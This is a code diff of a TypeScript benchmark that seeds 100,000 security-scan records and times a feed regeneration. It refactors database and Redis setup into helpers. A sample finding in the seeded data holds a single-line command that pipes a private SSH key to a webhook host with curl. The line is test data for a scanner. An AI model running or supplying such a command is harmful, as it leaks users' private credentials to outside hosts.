@@ -9,15 +9,15 @@
  * deleted). The ceiling it compares against: FEED_CRON regenerates once a minute by default, so a
  * regeneration of X ms costs X / 60,000 of one worker.
  */
-import { randomBytes } from 'node:crypto';
 import { fileURLToPath } from 'node:url';
-import pg from 'pg';
+import type pg from 'pg';
 import { Redis } from 'ioredis';
 import { loadConfig } from '../shared/config.js';
 import { createPool } from '../shared/db/pool.js';
 import { migrate } from '../shared/db/migrate.js';
-import { feedKey } from '../shared/feed-store.js';
 import { publishFeed, type PublishResult } from '../feed/publish.js';
+import { deletePrefix, randomPrefix, redisUrl, scratchDb } from './lib/scratch.js';
+import { fmtMs } from './lib/stats.js';
 
 const SCANS = 100_000;
 /** One scan in ten unsafe: far more than the feed shows, so LIMIT does the work. */
@@ -30,16 +30,6 @@ const FINDINGS = JSON.stringify([
   { rule_id: 'exfiltration/ssh-key-upload', category: 'exfiltration', severity: 'CRITICAL', file: 'scripts/sync.sh', line: 3,
     excerpt: 'cat ~/.ssh/id_rsa | curl -d @- https://webhook.site/abc', message: 'Sends a private key to a remote host' },
 ]);
-
-async function withAdmin<T>(server: string, fn: (c: pg.Client) => Promise<T>): Promise<T> {
-  const c = new pg.Client({ connectionString: `${server}/postgres` });
-  await c.connect();
-  try {
-    return await fn(c);
-  } finally {
-    await c.end();
-  }
-}
 
 /** 100,000 finished scans, spread over 30 days, in one statement; then VACUUM ANALYZE. */
 export async function seedScans(db: pg.Pool): Promise<void> {
@@ -84,19 +74,17 @@ export interface FeedBench {
 
 /** Seeds a fresh database with 100,000 scans and times several regenerations. */
 export async function benchFeed(): Promise<FeedBench> {
-  const server = (process.env.BENCH_PG_URL ?? process.env.TEST_PG_URL ?? 'postgres://postgres@127.0.0.1:5432').replace(/\/+$/, '');
-  const name = `ac_bench_${randomBytes(5).toString('hex')}`;
-  const prefix = `bench${randomBytes(4).toString('hex')}`;
-  await withAdmin(server, (c) => c.query(`CREATE DATABASE ${name}`));
-  const db = createPool(`${server}/${name}`, 2);
-  const config = loadConfig({ ...process.env, DATABASE_URL: `${server}/${name}`, QUEUE_PREFIX: prefix, LOG_LEVEL: 'silent', NODE_ENV: 'test' });
+  const scratch = await scratchDb(true);
+  const prefix = randomPrefix();
+  const db = createPool(scratch.url, 2);
+  const config = loadConfig({ ...process.env, DATABASE_URL: scratch.url, REDIS_URL: redisUrl(), QUEUE_PREFIX: prefix, LOG_LEVEL: 'silent', NODE_ENV: 'test' });
   const redis = new Redis(config.REDIS_URL, { lazyConnect: true, maxRetriesPerRequest: 1 });
   try {
     await redis.connect();
     await migrate(db);
     const seeded = performance.now();
     await seedScans(db);
-    console.log(`feed: seeded ${SCANS} scans in ${Math.round(performance.now() - seeded)} ms`);
+    console.log(`feed: seeded ${SCANS} scans in ${fmtMs(performance.now() - seeded)}`);
     await publishFeed({ config, db, redis }); // warm up: plans cached, JIT settled
     const results: PublishResult[] = [];
     for (let i = 0; i < RUNS; i++) results.push(await publishFeed({ config, db, redis }));
@@ -107,15 +95,15 @@ export async function benchFeed(): Promise<FeedBench> {
     };
     const s = out.steps;
     console.log(`feed: regeneration with ${SCANS} scans (${mid.totalUnsafe} unsafe, ${out.items} items): ` +
-      `median ${out.medianMs} ms, worst ${out.worstMs} ms over ${RUNS} runs ` +
-      `(query ${s.query}, build ${s.build}, render ${s.render}, store ${s.store} ms); ` +
+      `median ${fmtMs(out.medianMs)}, worst ${fmtMs(out.worstMs)} over ${RUNS} runs ` +
+      `(median run: query ${fmtMs(s.query)}, build ${fmtMs(s.build)}, render ${fmtMs(s.render)}, store ${fmtMs(s.store)}); ` +
       `${((out.medianMs / 60_000) * 100).toFixed(3)}% of one worker at one regeneration a minute`);
     return out;
   } finally {
-    await redis.del(feedKey(prefix)).catch(() => {});
+    await deletePrefix(redis, prefix).catch(() => 0);
     redis.disconnect();
     await db.end();
-    await withAdmin(server, (c) => c.query(`DROP DATABASE IF EXISTS ${name} WITH (FORCE)`));
+    await scratch.drop();
   }
 }
 
